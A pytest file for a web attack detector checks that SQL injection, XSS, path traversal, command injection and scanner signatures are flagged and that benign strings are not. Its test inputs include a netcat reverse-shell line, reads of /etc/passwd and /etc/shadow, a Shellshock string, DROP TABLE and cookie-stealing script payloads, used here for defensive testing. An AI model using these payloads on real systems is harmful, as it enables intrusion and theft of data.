"""Each payload detector finds attacks in their contexts and leaves the known traps alone."""

import pytest

from core.domain.threat.detectors.inspector import DEFAULT_THRESHOLD, Inspector
from core.domain.threat.model import AttackKind, Location, RequestSample

inspector = Inspector()


def verdict(value: str, location: Location = Location.QUERY) -> AttackKind | None:
    strongest = inspector.strongest(inspector.inspect_value(value, location))
    return strongest.kind if strongest is not None and strongest.score >= DEFAULT_THRESHOLD else None


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("1 UNION ALL SELECT username, password FROM users--", AttackKind.SQLI),
        ("' or '1'='1", AttackKind.SQLI),
        ("admin' --", AttackKind.SQLI),
        ("1; DROP TABLE users", AttackKind.SQLI),
        ("1 AND SLEEP(5)", AttackKind.SQLI),
        ("1/**/union/**/select/**/1,2", AttackKind.SQLI),
        ("') or benchmark(1000000,md5(1))#", AttackKind.SQLI),
        ("<script>alert(1)</script>", AttackKind.XSS),
        ("<img src=x onerror=alert(1)>", AttackKind.XSS),
        ('" onmouseover="alert(document.cookie)', AttackKind.XSS),
        ("javascript:alert(1)", AttackKind.XSS),
        ("';alert(String.fromCharCode(88,83,83))//", AttackKind.XSS),
        ("../../../../etc/passwd", AttackKind.TRAVERSAL),
        ("..\\..\\..\\windows\\win.ini", AttackKind.TRAVERSAL),
        ("/etc/shadow", AttackKind.TRAVERSAL),
        ("php://filter/convert.base64-encode/resource=index.php", AttackKind.TRAVERSAL),
        ("; cat /etc/passwd", AttackKind.CMDI),
        ("| nc -e /bin/sh 10.0.0.1 4444", AttackKind.CMDI),
        ("`whoami`", AttackKind.CMDI),
        ("$(id)", AttackKind.CMDI),
        ("() { :;}; /bin/bash -c 'id'", AttackKind.CMDI),
        ("& ping -n 30 127.0.0.1 &", AttackKind.CMDI),
    ],
)
def test_attacks_are_found(value: str, kind: AttackKind) -> None:
    assert verdict(value) == kind


@pytest.mark.parametrize(
    "value",
    [
        "O'Brien",
        "Conan O'Brien",
        "shipping_address",
        "select a plan from our catalog",
        "Drop-leaf table",
        "is 1=1 true in maths?",
        "a=1&b=2",
        "5 < 6 and 7 > 4",
        "chair & sleep mask set",
        "ping me on slack",
        "I'd like to cancel my coffee; thanks!",
        "john.doe+shop@example.com",
        "https://example.com/products?id=12&sort=price",
        "Price: $19.99 (was $24.99)",
        "Straße 12, 10115 Berlin",
        "rue de l'Église 4, 75001 Paris",
        "東京都渋谷区",
        "¿Dónde está la biblioteca?",
        "I love <b>bold</b> text",
        "<3 this product",
        "../README.md in the repo docs",
        "C:\\Users\\Public\\Documents",
        "50% off -- today only!",
        "AT&T",
        '{"name": "Anne-Marie d\'Estaing", "email": "am@example.fr", "note": "select the best option"}',
        "/api/v3/orders/79507/items?sort=-at&page=13&q=union+square",
    ],
)
def test_known_false_positive_traps_are_benign(value: str) -> None:
    assert verdict(value) is None


def test_findings_carry_evidence_score_and_detector() -> None:
    (finding,) = inspector.inspect_value("1 union select 1,2", Location.QUERY, "id")
    assert finding.detector == "sqli"
    assert finding.field == "id"
    assert 0.0 < finding.score <= 1.0
    assert "union" in finding.evidence
    assert len(finding.evidence) <= 80


def test_json_bodies_are_inspected_value_by_value() -> None:
    findings = inspector.inspect_value('{"user": {"name": "x\' OR 1=1 --"}}', Location.BODY, "body")
    assert [(f.kind, f.field) for f in findings] == [(AttackKind.SQLI, "body.user.name")]


def test_scanner_signatures_only_in_user_agent_and_path() -> None:
    sample = RequestSample(
        method="GET",
        path="/.git/config",
        headers=[("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")],
        query=[("q", "how do I run nmap on my laptop")],
    )
    kinds = {(f.kind, f.location) for f in inspector.inspect_request(sample)}
    assert (AttackKind.SCANNER, Location.PATH) in kinds
    assert (AttackKind.SCANNER, Location.HEADER) in kinds
    assert not any(kind == AttackKind.SCANNER and loc == Location.QUERY for kind, loc in kinds)


def test_a_referer_is_read_as_a_url() -> None:
    sample = RequestSample(
        method="GET",
        path="/",
        headers=[("Referer", "https://shop.example/search?q=1%27%20or%20%271%27%3D%271")],
    )
    assert any(f.kind == AttackKind.SQLI for f in inspector.inspect_request(sample))
    clean = RequestSample(
        method="GET", path="/", headers=[("Referer", "https://shop.example/search?a=1&b=2")]
    )
    assert not inspector.inspect_request(clean)
